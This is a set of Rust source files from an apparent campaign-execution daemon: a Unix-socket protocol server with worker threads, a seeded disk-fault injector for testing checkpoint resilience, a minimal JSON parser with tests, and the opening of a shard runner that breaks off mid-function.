    /// Enqueue unless the queue holds `depth` connections already; a full
    /// queue hands the connection back for the `busy` rejection.
    fn try_push(&self, item: T, depth: usize) -> Result<(), T> {
        let mut q = self.inner.lock().unwrap_or_else(PoisonError::into_inner);
        if q.len() >= depth {
            return Err(item);
        }
        q.push_back(item);
        self.ready.notify_one();
        Ok(())
    }

    /// Dequeue, or None once `stop` is set and the queue has drained.
    fn pop(&self, stop: &AtomicBool) -> Option<T> {
        let mut q = self.inner.lock().unwrap_or_else(PoisonError::into_inner);
        loop {
            if let Some(item) = q.pop_front() {
                return Some(item);
            }
            if stop.load(Ordering::Relaxed) {
                return None;
            }
            q = self
                .ready
                .wait_timeout(q, Duration::from_millis(100))
                .unwrap_or_else(PoisonError::into_inner)
                .0;
        }
    }
}

/// Serve the protocol on a Unix domain socket at `path`. Protocol workers
/// drain the bounded connection queue while a dedicated executor thread
/// runs pending campaign work one shard at a time. Returns on `shutdown`
/// or when the service's interrupt flag trips.
#[cfg(unix)]
pub fn serve_socket(
    service: &Service,
    path: &std::path::Path,
    log: impl Write + Send,
    opts: &ServeOptions,
) -> Result<(), String> {
    use std::os::unix::net::UnixListener;

    // A previous unclean exit leaves a stale socket file; binding over it
    // needs the unlink first.
    let _ = std::fs::remove_file(path);
    let listener = UnixListener::bind(path).map_err(|e| format!("bind {}: {e}", path.display()))?;
    listener
        .set_nonblocking(true)
        .map_err(|e| format!("nonblocking listener: {e}"))?;
    let log = Mutex::new(log);
    logln(
        &log,
        format_args!("campaignd: serving on {}", path.display()),
    );

    let stop = AtomicBool::new(false);
    let queue = ConnQueue::new();
    let mut accept_err = None;

    std::thread::scope(|scope| {
        for _ in 0..opts.workers.max(1) {
            scope.spawn(|| worker_loop(service, &queue, opts, &stop));
        }
        scope.spawn(|| executor_loop(service, &stop, &log));

        while !stop.load(Ordering::Relaxed) && !service.interrupted() {
            match listener.accept() {
                Ok((stream, _addr)) => {
                    if let Err(mut stream) = queue.try_push(stream, opts.queue_depth) {
                        // Typed rejection, then hang up: better a loud
                        // `busy` now than an unbounded backlog wedging
                        // every client later.
                        service
                            .stats()
                            .busy_rejected
                            .fetch_add(1, Ordering::Relaxed);
                        let _ = stream.set_nonblocking(false);
                        let _ = writeln!(stream, "{}", error_line("busy"));
                    }
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    std::thread::sleep(Duration::from_millis(25));
                }
                Err(e) => {
                    accept_err = Some(format!("accept: {e}"));
                    break;
                }
            }
        }
        stop.store(true, Ordering::Relaxed);
        queue.ready.notify_all();
    });

    let _ = std::fs::remove_file(path);
    logln(
        &log,
        format_args!(
            "campaignd: stopped{}",
            if service.interrupted() {
                " (interrupted; checkpoints flushed)"
            } else {
                ""
            }
        ),
    );
    accept_err.map_or(Ok(()), Err)
}

#[cfg(unix)]
fn logln(log: &Mutex<impl Write>, args: std::fmt::Arguments<'_>) {
    let mut log = log.lock().unwrap_or_else(PoisonError::into_inner);
    let _ = writeln!(log, "{args}");
}

/// One protocol worker: serve queued connections until `stop`.
#[cfg(unix)]
fn worker_loop(
    service: &Service,
    queue: &ConnQueue<std::os::unix::net::UnixStream>,
    opts: &ServeOptions,
    stop: &AtomicBool,
) {
    while let Some(stream) = queue.pop(stop) {
        if serve_connection(service, stream, opts) == Control::Shutdown {
            stop.store(true, Ordering::Relaxed);
            queue.ready.notify_all();
        }
    }
}

/// Serve one connection under the per-connection deadline. Client-side
/// failures (hangup, dead socket) end the connection, never the server.
#[cfg(unix)]
fn serve_connection(
    service: &Service,
    stream: std::os::unix::net::UnixStream,
    opts: &ServeOptions,
) -> Control {
    if stream.set_nonblocking(false).is_err() {
        return Control::Continue;
    }
    // Short read timeouts turn a silent client into deadline polls.
    let _ = stream.set_read_timeout(Some(Duration::from_millis(250)));
    let Ok(mut writer) = stream.try_clone() else {
        return Control::Continue;
    };
    let reader = std::io::BufReader::new(stream);
    let deadline = Instant::now() + opts.conn_deadline;
    serve_stream(service, reader, &mut writer, opts.max_line, Some(deadline))
        .unwrap_or(Control::Continue)
}

/// The background executor: advance the first unfinished campaign one
/// shard at a time, forever, independent of protocol traffic.
#[cfg(unix)]
fn executor_loop(service: &Service, stop: &AtomicBool, log: &Mutex<impl Write>) {
    while !stop.load(Ordering::Relaxed) && !service.interrupted() {
        match service.pending_campaign() {
            Ok(Some(name)) => match service.run_slice(&name, None, Some(1)) {
                Ok(outcome) => logln(
                    log,
                    format_args!(
                        "campaignd: {name} {}/{} jobs{}{}",
                        outcome.done_jobs,
                        outcome.total_jobs,
                        if outcome.complete { " (complete)" } else { "" },
                        if outcome.checkpoints_skipped > 0 {
                            " (checkpoint skipped; will re-run)"
                        } else {
                            ""
                        },
                    ),
                ),
                Err(e) => {
                    logln(log, format_args!("campaignd: {name}: {e}"));
                    std::thread::sleep(Duration::from_millis(250));
                }
            },
            Ok(None) => std::thread::sleep(Duration::from_millis(25)),
            Err(e) => {
                logln(log, format_args!("campaignd: scan: {e}"));
                std::thread::sleep(Duration::from_millis(250));
            }
        }
    }
}

/// Send one request line to a campaign service socket and return its
/// response line — the client half of the protocol.
#[cfg(unix)]
pub fn request(path: &std::path::Path, line: &str) -> Result<String, String> {
    use std::os::unix::net::UnixStream;

    let stream =
        UnixStream::connect(path).map_err(|e| format!("connect {}: {e}", path.display()))?;
    stream
        .set_read_timeout(Some(Duration::from_secs(600)))
        .map_err(|e| format!("read timeout: {e}"))?;
    let mut writer = stream.try_clone().map_err(|e| format!("clone: {e}"))?;
    writeln!(writer, "{line}").map_err(|e| format!("send: {e}"))?;
    let mut response = String::new();
    std::io::BufReader::new(stream)
        .read_line(&mut response)
        .map_err(|e| format!("receive: {e}"))?;
    if response.is_empty() {
        return Err("service closed the connection without responding".into());
    }
    Ok(response.trim_end().to_string())
}
