//! Transports for the control protocol: stdio (pipes, tests, CI) and a
//! Unix domain socket (long-running service).
//!
//! Both speak the same line protocol ([`crate::proto`]). The socket server
//! additionally *does work while idle*: between accept polls it runs one
//! shard-bounded slice of the first unfinished campaign, so submitted
//! campaigns make progress without any client attached, while the server
//! stays responsive at shard granularity. On interrupt (SIGINT/SIGTERM via
//! [`crate::signal::install`]) the in-flight slice flushes its checkpoint
//! and the loop exits cleanly.

use crate::proto::{Control, Service};
use std::io::{BufRead, Write};
use std::time::Duration;

/// Serve the protocol over arbitrary line streams (stdio in production,
/// strings in tests). Returns when the input ends or a `shutdown` request
/// arrives. No background work runs in this mode — drive execution with
/// explicit `run` requests.
pub fn serve_lines(
    service: &mut Service,
    input: impl BufRead,
    mut output: impl Write,
) -> Result<(), String> {
    for line in input.lines() {
        let line = line.map_err(|e| format!("read request: {e}"))?;
        if line.trim().is_empty() {
            continue;
        }
        let (response, control) = service.handle_line(&line);
        writeln!(output, "{response}").map_err(|e| format!("write response: {e}"))?;
        output.flush().map_err(|e| format!("flush response: {e}"))?;
        if control == Control::Shutdown {
            break;
        }
    }
    Ok(())
}

/// Serve the protocol on a Unix domain socket at `path`, running pending
/// campaign work (one shard per idle poll) between connections. Returns
/// on `shutdown` or when the service's interrupt flag trips.
#[cfg(unix)]
pub fn serve_socket(
    service: &mut Service,
    path: &std::path::Path,
    mut log: impl Write,
) -> Result<(), String> {
    use std::os::unix::net::UnixListener;

    // A previous unclean exit leaves a stale socket file; binding over it
    // needs the unlink first.
    let _ = std::fs::remove_file(path);
    let listener = UnixListener::bind(path).map_err(|e| format!("bind {}: {e}", path.display()))?;
    listener
        .set_nonblocking(true)
        .map_err(|e| format!("nonblocking listener: {e}"))?;
    let _ = writeln!(log, "campaignd: serving on {}", path.display());

    let mut shutdown = false;
    while !shutdown && !service.interrupted() {
        match listener.accept() {
            Ok((stream, _addr)) => {
                stream
                    .set_nonblocking(false)
                    .map_err(|e| format!("stream mode: {e}"))?;
                // An idle client must not wedge the service forever.
                stream
                    .set_read_timeout(Some(Duration::from_secs(10)))
                    .map_err(|e| format!("read timeout: {e}"))?;
                let mut writer = stream
                    .try_clone()
                    .map_err(|e| format!("clone stream: {e}"))?;
                let reader = std::io::BufReader::new(stream);
                for line in reader.lines() {
                    let Ok(line) = line else { break };
                    if line.trim().is_empty() {
                        continue;
                    }
                    let (response, control) = service.handle_line(&line);
                    if writeln!(writer, "{response}").is_err() {
                        break;
                    }
                    if control == Control::Shutdown {
                        shutdown = true;
                        break;
                    }
                }
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                // Idle: advance the first unfinished campaign by one shard.
                match service.pending_campaign()? {
                    Some(name) => {
                        let outcome = service.run_slice(&name, None, Some(1))?;
                        let _ = writeln!(
                            log,
                            "campaignd: {name} {}/{} jobs{}",
                            outcome.done_jobs,
                            outcome.total_jobs,
                            if outcome.complete { " (complete)" } else { "" },
                        );
                    }
                    None => std::thread::sleep(Duration::from_millis(25)),
                }
            }
            Err(e) => return Err(format!("accept: {e}")),
        }
    }
    let _ = std::fs::remove_file(path);
    let _ = writeln!(
        log,
        "campaignd: stopped{}",
        if service.interrupted() {
            " (interrupted; checkpoints flushed)"
        } else {
            ""
        }
    );
    Ok(())
}

/// Send one request line to a campaign service socket and return its
/// response line — the client half of the protocol.
#[cfg(unix)]
pub fn request(path: &std::path::Path, line: &str) -> Result<String, String> {
    use std::os::unix::net::UnixStream;

    let stream =
        UnixStream::connect(path).map_err(|e| format!("connect {}: {e}", path.display()))?;
    stream
        .set_read_timeout(Some(Duration::from_secs(600)))
        .map_err(|e| format!("read timeout: {e}"))?;
    let mut writer = stream.try_clone().map_err(|e| format!("clone: {e}"))?;
    writeln!(writer, "{line}").map_err(|e| format!("send: {e}"))?;
    let mut response = String::new();
    std::io::BufReader::new(stream)
        .read_line(&mut response)
        .map_err(|e| format!("receive: {e}"))?;
    if response.is_empty() {
        return Err("service closed the connection without responding".into());
    }
    Ok(response.trim_end().to_string())
}
