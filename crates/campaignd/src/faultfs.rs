//! Seeded disk-fault injection for the campaign store.
//!
//! The same discipline the board crate applies to the master's reflash
//! pipeline (`chaos.rs`: seeded draws, uniform rates, an inert plan at
//! rate 0) aimed at the service's own I/O: every store write first asks
//! the [`FaultFs`] whether this operation fails, and a scheduled fault
//! surfaces as the error a real disk would return — EIO, ENOSPC, or a
//! short write that leaves a torn `.tmp` sibling behind. Because draws
//! are keyed by `(seed, op counter)`, a given schedule is reproducible:
//! the ENOSPC soak in CI fails the *same* writes every run.
//!
//! The injector sits below the store's bounded retry loop
//! ([`crate::store::CampaignStore`]), so soaking it proves the whole
//! degradation ladder: retry with backoff, then skip the checkpoint and
//! keep the campaign alive, never abort or corrupt.

use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

/// What a scheduled fault does to the write.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum FsFault {
    /// The write fails outright (I/O error).
    Eio,
    /// The filesystem reports no space.
    Enospc,
    /// Half the bytes land in the temp sibling, then the write fails —
    /// the torn `.tmp` must never be mistaken for the real file.
    ShortWrite,
}

/// Injectable I/O layer for [`crate::store::CampaignStore`] writes. The
/// inert injector (`rate == 0`) performs no draws and delegates straight
/// to [`crate::store::write_file_atomic`]. Cloning shares the op counter,
/// so every handle of one store draws from one schedule.
#[derive(Debug, Clone)]
pub struct FaultFs {
    rate: f64,
    seed: u64,
    ops: Arc<AtomicU64>,
}

impl FaultFs {
    /// The pass-through injector: never faults, draws nothing.
    pub fn none() -> Self {
        FaultFs::seeded(0, 0.0)
    }

    /// An injector that fails roughly `rate` of all write operations on a
    /// schedule derived from `seed`.
    pub fn seeded(seed: u64, rate: f64) -> Self {
        FaultFs {
            rate: rate.clamp(0.0, 1.0),
            seed,
            ops: Arc::new(AtomicU64::new(0)),
        }
    }

    /// Whether this injector can ever fault.
    pub fn is_none(&self) -> bool {
        self.rate == 0.0
    }

    fn draw(&self) -> Option<FsFault> {
        if self.rate <= 0.0 {
            return None;
        }
        let op = self.ops.fetch_add(1, Ordering::Relaxed);
        let x = mix(self.seed, op);
        let unit = (x >> 11) as f64 * (1.0 / (1u64 << 53) as f64);
        if unit >= self.rate {
            return None;
        }
        Some(match x % 3 {
            0 => FsFault::Eio,
            1 => FsFault::Enospc,
            _ => FsFault::ShortWrite,
        })
    }

    /// Atomically write `bytes` to `path` — unless a fault is scheduled
    /// for this operation, in which case the error a real failing disk
    /// would produce is returned (and a short write leaves the torn
    /// `.tmp` sibling a crash would leave).
    pub fn write_atomic(&self, path: &Path, bytes: &[u8]) -> Result<(), String> {
        match self.draw() {
            None => crate::store::write_file_atomic(path, bytes),
            Some(FsFault::Eio) => Err(format!("injected EIO writing {} (FaultFs)", path.display())),
            Some(FsFault::Enospc) => Err(format!(
                "injected ENOSPC writing {} (FaultFs)",
                path.display()
            )),
            Some(FsFault::ShortWrite) => {
                let torn: PathBuf = {
                    let mut name = path.file_name().unwrap_or_default().to_os_string();
                    name.push(".tmp");
                    path.with_file_name(name)
                };
                let _ = std::fs::write(&torn, &bytes[..bytes.len() / 2]);
                Err(format!(
                    "injected short write to {} (FaultFs)",
                    torn.display()
                ))
            }
        }
    }
}

/// Splitmix64 mix of `(seed, op)` — same generator the fleet engine uses
/// for its per-job streams.
fn mix(seed: u64, op: u64) -> u64 {
    let mut z = seed ^ op.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn inert_injector_never_faults_and_never_draws() {
        let fs = FaultFs::none();
        assert!(fs.is_none());
        for _ in 0..1000 {
            assert_eq!(fs.draw(), None);
        }
        assert_eq!(fs.ops.load(Ordering::Relaxed), 0, "rate 0 burns no ops");
    }

    #[test]
    fn schedule_is_seed_deterministic_and_rate_proportional() {
        let a = FaultFs::seeded(42, 0.3);
        let b = FaultFs::seeded(42, 0.3);
        let draws_a: Vec<_> = (0..500).map(|_| a.draw()).collect();
        let draws_b: Vec<_> = (0..500).map(|_| b.draw()).collect();
        assert_eq!(draws_a, draws_b, "same seed, same schedule");
        let faults = draws_a.iter().filter(|d| d.is_some()).count();
        assert!(
            (80..220).contains(&faults),
            "~30% of 500 ops should fault, got {faults}"
        );
        let kinds: std::collections::BTreeSet<_> = draws_a.iter().flatten().copied().collect();
        assert_eq!(kinds.len(), 3, "all three fault kinds appear");
    }

    #[test]
    fn short_write_leaves_only_a_torn_tmp() {
        let dir = std::env::temp_dir()
            .join("mavr-campaignd-tests")
            .join(format!("faultfs-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        // rate 1.0: every op faults; find a short-write op.
        let fs = FaultFs::seeded(7, 1.0);
        let target = dir.join("shard-0000.ckpt");
        let mut saw_short = false;
        for _ in 0..32 {
            if let Err(e) = fs.write_atomic(&target, b"0123456789abcdef") {
                if e.contains("short write") {
                    saw_short = true;
                    break;
                }
            }
        }
        assert!(saw_short);
        assert!(!target.exists(), "the real file never appears");
        let torn = dir.join("shard-0000.ckpt.tmp");
        assert_eq!(std::fs::read(&torn).unwrap().len(), 8, "half the bytes");
    }
}
