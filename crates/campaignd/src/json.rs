//! A minimal JSON tree: enough for campaign specs and the newline-delimited
//! control protocol, with one property the service actually depends on —
//! **numbers keep their source lexeme**, so a 64-bit campaign seed round-trips
//! exactly instead of being laundered through an `f64`.
//!
//! The workspace is offline (every dependency is an in-repo path), so this is
//! hand-rolled rather than pulled in; it parses strict JSON (RFC 8259) minus
//! nothing we emit: escapes, nested containers, exponents all work.

/// A parsed JSON value. Object keys keep insertion order (specs serialize
/// deterministically).
#[derive(Debug, Clone, PartialEq)]
pub enum Json {
    /// `null`
    Null,
    /// `true` / `false`
    Bool(bool),
    /// A number, stored as its source lexeme (`"18446744073709551615"`
    /// stays exact; accessors parse on demand).
    Num(String),
    /// A string (unescaped).
    Str(String),
    /// An array.
    Arr(Vec<Json>),
    /// An object, in insertion order.
    Obj(Vec<(String, Json)>),
}

impl Json {
    /// Parse one JSON document; trailing non-whitespace is an error.
    pub fn parse(text: &str) -> Result<Json, String> {
        let mut p = Parser {
            bytes: text.as_bytes(),
            pos: 0,
        };
        p.skip_ws();
        let v = p.value()?;
        p.skip_ws();
        if p.pos != p.bytes.len() {
            return Err(format!("trailing garbage at byte {}", p.pos));
        }
        Ok(v)
    }

    /// Object field lookup.
    pub fn get(&self, key: &str) -> Option<&Json> {
        match self {
            Json::Obj(fields) => fields.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// The string payload, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Json::Str(s) => Some(s),
            _ => None,
        }
    }

    /// The boolean payload, if this is a boolean.
    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Json::Bool(b) => Some(*b),
            _ => None,
        }
    }

    /// This number as an exact `u64`. Accepts a numeric lexeme or a string
    /// of digits (large seeds are often quoted to survive other tools).
    pub fn as_u64(&self) -> Option<u64> {
        match self {
            Json::Num(lexeme) => lexeme.parse().ok(),
            Json::Str(s) => s.parse().ok(),
            _ => None,
        }
    }

    /// This number as an `f64`.
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Json::Num(lexeme) => lexeme.parse().ok(),
            _ => None,
        }
    }

    /// The array elements, if this is an array.
    pub fn as_arr(&self) -> Option<&[Json]> {
        match self {
            Json::Arr(items) => Some(items),
            _ => None,
        }
    }

    /// Build a number from a `u64` (exact).
    pub fn num(v: u64) -> Json {
        Json::Num(v.to_string())
    }

    /// Build a number from an `f64` (shortest round-trip form).
    pub fn float(v: f64) -> Json {
        Json::Num(format!("{v:?}"))
    }

    /// Build a string value.
    pub fn str(v: impl Into<String>) -> Json {
        Json::Str(v.into())
    }

    /// Serialize (compact, single line, fields in stored order).
    pub fn to_text(&self) -> String {
        let mut out = String::new();
        self.write(&mut out);
        out
    }

    fn write(&self, out: &mut String) {
        match self {
            Json::Null => out.push_str("null"),
            Json::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
            Json::Num(lexeme) => out.push_str(lexeme),
            Json::Str(s) => write_escaped(s, out),
            Json::Arr(items) => {
                out.push('[');
                for (i, v) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    v.write(out);
                }
                out.push(']');
            }
            Json::Obj(fields) => {
                out.push('{');
                for (i, (k, v)) in fields.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    write_escaped(k, out);
                    out.push(':');
                    v.write(out);
                }
                out.push('}');
            }
        }
    }
}

fn write_escaped(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn skip_ws(&mut self) {
        while matches!(self.bytes.get(self.pos), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.pos += 1;
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn eat(&mut self, b: u8) -> Result<(), String> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(format!("expected `{}` at byte {}", char::from(b), self.pos))
        }
    }

    fn lit(&mut self, word: &str, value: Json) -> Result<Json, String> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(format!("bad literal at byte {}", self.pos))
        }
    }

    fn value(&mut self) -> Result<Json, String> {
        match self.peek() {
            Some(b'n') => self.lit("null", Json::Null),
            Some(b't') => self.lit("true", Json::Bool(true)),
            Some(b'f') => self.lit("false", Json::Bool(false)),
            Some(b'"') => Ok(Json::Str(self.string()?)),
            Some(b'[') => self.array(),
            Some(b'{') => self.object(),
            Some(b'-' | b'0'..=b'9') => self.number(),
            Some(other) => Err(format!(
                "unexpected `{}` at byte {}",
                char::from(other),
                self.pos
            )),
            None => Err("unexpected end of input".into()),
        }
    }

    fn number(&mut self) -> Result<Json, String> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b'0'..=b'9')) {
            self.pos += 1;
        }
        if self.peek() == Some(b'.') {
            self.pos += 1;
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        if matches!(self.peek(), Some(b'e' | b'E')) {
            self.pos += 1;
            if matches!(self.peek(), Some(b'+' | b'-')) {
                self.pos += 1;
            }
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        let lexeme = std::str::from_utf8(&self.bytes[start..self.pos])
            .expect("digits are ASCII")
            .to_string();
        if lexeme.is_empty() || lexeme == "-" || lexeme.parse::<f64>().is_err() {
            return Err(format!("bad number at byte {start}"));
        }
        Ok(Json::Num(lexeme))
    }

    fn string(&mut self) -> Result<String, String> {
        self.eat(b'"')?;
        let mut out = String::new();
        loop {
            match self.peek() {
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'b') => out.push('\u{8}'),
                        Some(b'f') => out.push('\u{c}'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'u') => {
                            self.pos += 1;
                            let cp = self.hex4()?;
                            // Accept surrogate pairs; lone surrogates
                            // become U+FFFD rather than failing the spec.
                            let c = if (0xd800..0xdc00).contains(&cp) {
                                if self.bytes[self.pos..].starts_with(b"\\u") {
                                    self.pos += 2;
                                    let low = self.hex4()?;
                                    char::from_u32(0x10000 + ((cp - 0xd800) << 10) + (low - 0xdc00))
                                        .unwrap_or('\u{fffd}')
                                } else {
                                    '\u{fffd}'
                                }
                            } else {
                                char::from_u32(cp).unwrap_or('\u{fffd}')
                            };
                            out.push(c);
                            continue;
                        }
                        _ => return Err(format!("bad escape at byte {}", self.pos)),
                    }
                    self.pos += 1;
                }
                Some(_) => {
                    // Consume one UTF-8 scalar.
                    let rest = std::str::from_utf8(&self.bytes[self.pos..])
                        .map_err(|_| format!("invalid UTF-8 at byte {}", self.pos))?;
                    let c = rest.chars().next().expect("non-empty");
                    if (c as u32) < 0x20 {
                        return Err(format!("raw control char at byte {}", self.pos));
                    }
                    out.push(c);
                    self.pos += c.len_utf8();
                }
                None => return Err("unterminated string".into()),
            }
        }
    }

    fn hex4(&mut self) -> Result<u32, String> {
        let chunk = self
            .bytes
            .get(self.pos..self.pos + 4)
            .ok_or("truncated \\u escape")?;
        let s = std::str::from_utf8(chunk).map_err(|_| "bad \\u escape".to_string())?;
        let cp = u32::from_str_radix(s, 16).map_err(|_| "bad \\u escape".to_string())?;
        self.pos += 4;
        Ok(cp)
    }

    fn array(&mut self) -> Result<Json, String> {
        self.eat(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Json::Arr(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Json::Arr(items));
                }
                _ => return Err(format!("expected `,` or `]` at byte {}", self.pos)),
            }
        }
    }

    fn object(&mut self) -> Result<Json, String> {
        self.eat(b'{')?;
        let mut fields = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Json::Obj(fields));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.eat(b':')?;
            self.skip_ws();
            let value = self.value()?;
            if fields.iter().any(|(k, _)| *k == key) {
                return Err(format!("duplicate key `{key}`"));
            }
            fields.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Json::Obj(fields));
                }
                _ => return Err(format!("expected `,` or `}}` at byte {}", self.pos)),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_and_reserializes_structures() {
        let text = r#"{"name":"night-sweep","seed":18446744073709551615,"loss":[0.0,0.01],"on":true,"note":null}"#;
        let v = Json::parse(text).unwrap();
        assert_eq!(v.get("name").unwrap().as_str(), Some("night-sweep"));
        assert_eq!(v.get("seed").unwrap().as_u64(), Some(u64::MAX));
        assert_eq!(
            v.get("loss").unwrap().as_arr().unwrap()[1].as_f64(),
            Some(0.01)
        );
        assert_eq!(v.get("on").unwrap().as_bool(), Some(true));
        assert_eq!(v.get("note"), Some(&Json::Null));
        // Round trip is exact — including the u64 that f64 cannot hold.
        assert_eq!(Json::parse(&v.to_text()).unwrap(), v);
        assert!(v.to_text().contains("18446744073709551615"));
    }

    #[test]
    fn handles_escapes_and_rejects_malformed_input() {
        let v = Json::parse(r#"["a\"b\\c\nAé"]"#).unwrap();
        assert_eq!(v.as_arr().unwrap()[0].as_str(), Some("a\"b\\c\nAé"));
        let reparsed = Json::parse(&v.to_text()).unwrap();
        assert_eq!(reparsed, v);

        for bad in [
            "",
            "{",
            "[1,",
            "{\"a\":}",
            "01x",
            "nul",
            "\"open",
            "{\"a\":1,\"a\":2}",
            "[1] trailing",
        ] {
            assert!(Json::parse(bad).is_err(), "accepted {bad:?}");
        }
    }

    #[test]
    fn numbers_accept_exponent_forms() {
        assert_eq!(Json::parse("2.5e-4").unwrap().as_f64(), Some(0.00025));
        assert_eq!(Json::parse("-3").unwrap().as_f64(), Some(-3.0));
        assert_eq!(Json::float(0.0005).to_text(), "0.0005");
    }
}
