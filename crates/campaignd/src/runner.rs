//! The shard execution loop and the streaming merge.
//!
//! The runner is what makes a million-board campaign cost the same RAM as
//! an 8-board one: it holds exactly one shard's outcomes at a time
//! (plus the fixed-size cell matrix), streams each board's result to the
//! shard's JSONL file the moment its prefix completes, and folds metrics
//! through the associative registry merge instead of accumulating outcome
//! vectors. The merge step is two O(largest-shard) passes that write the
//! report **byte-identical** to an unsharded `run_campaign().to_json()` —
//! the laws behind that identity are proptested in
//! `mavr-fleet/tests/shard_props.rs`.

use crate::store::CampaignStore;
use mavr_fleet::{
    config_fingerprint, json_prelude, run_shard_resume, summarize, CampaignAggregate,
    CampaignConfig, PreparedCampaign, ShardCheckpoint, JSON_EPILOGUE,
};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use telemetry::metrics::MetricsRegistry;
use telemetry::{kinds, Telemetry, Value};

/// One campaign, ready to run: its store, the engine config (with the
/// service's telemetry and interrupt flag wired in), and the prepared
/// firmware. Building the firmware is the expensive part, so a service
/// keeps sessions cached across work slices.
pub struct CampaignSession {
    /// The campaign's directory and spec.
    pub store: CampaignStore,
    /// Engine config derived from the spec.
    pub cfg: CampaignConfig,
    prepared: PreparedCampaign,
    /// Checkpoint flushes abandoned after the store's bounded retries —
    /// the `campaignd_checkpoint_skipped` metric, cumulative per session.
    checkpoints_skipped: AtomicU64,
}

/// What one work slice did.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RunOutcome {
    /// Jobs executed in this slice.
    pub jobs_run: usize,
    /// Jobs checkpointed campaign-wide (including previous slices).
    pub done_jobs: u64,
    /// Jobs in the matrix.
    pub total_jobs: u64,
    /// Whether the whole campaign is now complete.
    pub complete: bool,
    /// Whether the slice stopped on the interrupt flag.
    pub interrupted: bool,
    /// Checkpoint flushes this slice abandoned (disk faults that survived
    /// every retry). Nonzero means some executed work is not yet durable
    /// and will re-run — degraded, never lost or corrupted.
    pub checkpoints_skipped: u64,
}

impl CampaignSession {
    /// Build a session: derive the engine config, wire in telemetry and
    /// the shared interrupt flag, link the firmware once.
    pub fn new(
        store: CampaignStore,
        telemetry: Telemetry,
        interrupt: Arc<AtomicBool>,
    ) -> Result<Self, String> {
        let mut cfg = store.spec.to_config()?;
        cfg.telemetry = telemetry;
        cfg.interrupt = interrupt;
        let prepared = PreparedCampaign::new(&cfg);
        Ok(CampaignSession {
            store,
            cfg,
            prepared,
            checkpoints_skipped: AtomicU64::new(0),
        })
    }

    /// Checkpoint flushes this session has abandoned to disk faults,
    /// across all slices.
    pub fn checkpoints_skipped(&self) -> u64 {
        self.checkpoints_skipped.load(Ordering::Relaxed)
    }

    /// Run a work slice: up to `budget_jobs` jobs across up to
    /// `max_shards` shards, in shard order, resuming wherever the last
    /// slice (or process) stopped. Each shard's outcomes stream to its
    /// `.jsonl.part` file as they complete; the shard checkpoint is
    /// flushed atomically after the shard's slice, so a kill between
    /// slices loses nothing and a kill *during* a slice loses only that
    /// slice's work.
    pub fn run(
        &self,
        budget_jobs: Option<usize>,
        max_shards: Option<usize>,
    ) -> Result<RunOutcome, String> {
        let plan = self.store.plan();
        let mut budget = budget_jobs;
        let mut jobs_run = 0usize;
        let mut done_jobs = 0u64;
        let mut shards_touched = 0usize;
        let mut interrupted = false;
        let mut stopped = false;
        let mut slice_skips = 0u64;

        for index in 0..plan.shard_count() {
            let mut shard = self.store.load_shard(&self.cfg, index)?;
            if shard.complete() {
                done_jobs += shard.outcomes.len() as u64;
                // Heal a kill (or skipped write) that landed between the
                // checkpoint flush and the finalized-stream rename: the
                // checkpoint is complete but the .jsonl never made it.
